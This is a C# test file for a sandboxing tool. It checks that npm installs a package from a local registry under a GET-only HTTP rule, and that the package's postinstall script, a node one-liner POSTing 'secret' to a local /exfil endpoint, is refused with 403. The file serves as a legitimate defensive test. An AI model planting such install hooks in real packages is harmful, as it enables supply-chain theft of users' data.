using System.Diagnostics;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Sandlock.Tests.TestSupport;
using static Sandlock.Tests.CliRunner;

namespace Sandlock.Tests;

/// <summary>
/// npm against a local registry under a GET-only HTTP rule: the package installs (npm install, then npm ci from the
/// lockfile), and its postinstall script's POST (an exfiltration attempt) gets the sandbox's 403 and never reaches
/// the server. Runs where npm is installed (it is no part of a fresh Debian machine).
/// </summary>
public sealed class NpmRegistryTests
{
    [Fact]
    public async Task Npm_installs_from_a_registry_under_a_get_only_rule_and_a_postinstall_post_is_refused()
    {
        if (!File.Exists("/usr/bin/npm") || !File.Exists("/usr/bin/tar")) return;
        var work = Directory.CreateTempSubdirectory("sandlock-npm-").FullName;
        try
        {
            var package = Directory.CreateDirectory(Path.Combine(work, "pkg", "package")).FullName;
            var scripts = new Dictionary<string, string>
            {
                ["postinstall"] = "node -e \"require('http').request({host:'127.0.0.1',port:+process.env.SANDLOCK_REGISTRY_PORT,method:'POST',path:'/exfil'},r=>console.log('postinstall POST',r.statusCode)).on('error',e=>console.log('postinstall POST failed',e.message)).end('secret')\"",
            };
            await File.WriteAllTextAsync(Path.Combine(package, "package.json"), JsonSerializer.Serialize(new { name = "sandlock-demo", version = "1.0.0", scripts }));
            var tarball = Path.Combine(work, "demo.tgz");
            using (var tar = Process.Start("/usr/bin/tar", ["-C", Path.Combine(work, "pkg"), "-czf", tarball, "package"])) await tar.WaitForExitAsync();
            var tgz = await File.ReadAllBytesAsync(tarball);

            LocalHttpServer? registry = null;
            registry = new LocalHttpServer(tls: false)
            {
                Routes = (method, path) => (method, path) switch
                {
                    ("GET", "/sandlock-demo/-/sandlock-demo-1.0.0.tgz") => (200, "application/octet-stream", tgz),
                    ("GET", "/sandlock-demo") => (200, "application/json", Encoding.UTF8.GetBytes(JsonSerializer.Serialize(new Dictionary<string, object>
                    {
                        ["name"] = "sandlock-demo",
                        ["dist-tags"] = new { latest = "1.0.0" },
                        ["versions"] = new Dictionary<string, object>
                        {
                            ["1.0.0"] = new
                            {
                                name = "sandlock-demo", version = "1.0.0", scripts,
                                dist = new
                                {
                                    tarball = $"http://127.0.0.1:{registry!.Port}/sandlock-demo/-/sandlock-demo-1.0.0.tgz",
                                    shasum = Convert.ToHexStringLower(SHA1.HashData(tgz)),
                                    integrity = "sha512-" + Convert.ToBase64String(SHA512.HashData(tgz)),
                                },
                            },
                        },
                    }))),
                    _ => (404, "text/plain", "not here\n"u8.ToArray()),
                },
            };
            using (registry)
            {
                var project = Directory.CreateDirectory(Path.Combine(work, "project")).FullName;
                var home = Directory.CreateDirectory(Path.Combine(work, "home")).FullName;
                await File.WriteAllTextAsync(Path.Combine(project, "package.json"), """{"name":"p","version":"1.0.0","dependencies":{"sandlock-demo":"1.0.0"}}""");
                var npm = $"npm --registry http://127.0.0.1:{registry.Port}/ --no-audit --no-fund --foreground-scripts";
                var r = await Run(["run", "-r", "/", "-w", project, "-w", home, "--env", $"HOME={home}", "--env", $"SANDLOCK_REGISTRY_PORT={registry.Port}",
                    "--cwd", project, "--http-allow", "GET 127.0.0.1/*", "--http-port", $"{registry.Port}",
                    "--", "sh", "-c", $"{npm} install && rm -rf node_modules && {npm} ci"]);

                Assert.True(r.ExitCode == 0, $"{r.Stdout}\n{r.Stderr}");
                Assert.True(File.Exists(Path.Combine(project, "node_modules", "sandlock-demo", "package.json")));
                Assert.Contains("postinstall POST 403", r.Stdout + r.Stderr);
                Assert.Contains("denied http POST 127.0.0.1/exfil", r.Stderr);
                Assert.DoesNotContain(registry.Heads, h => h.StartsWith("POST", StringComparison.Ordinal));
            }
        }
        finally
        {
            Directory.Delete(work, true);
        }
    }
}
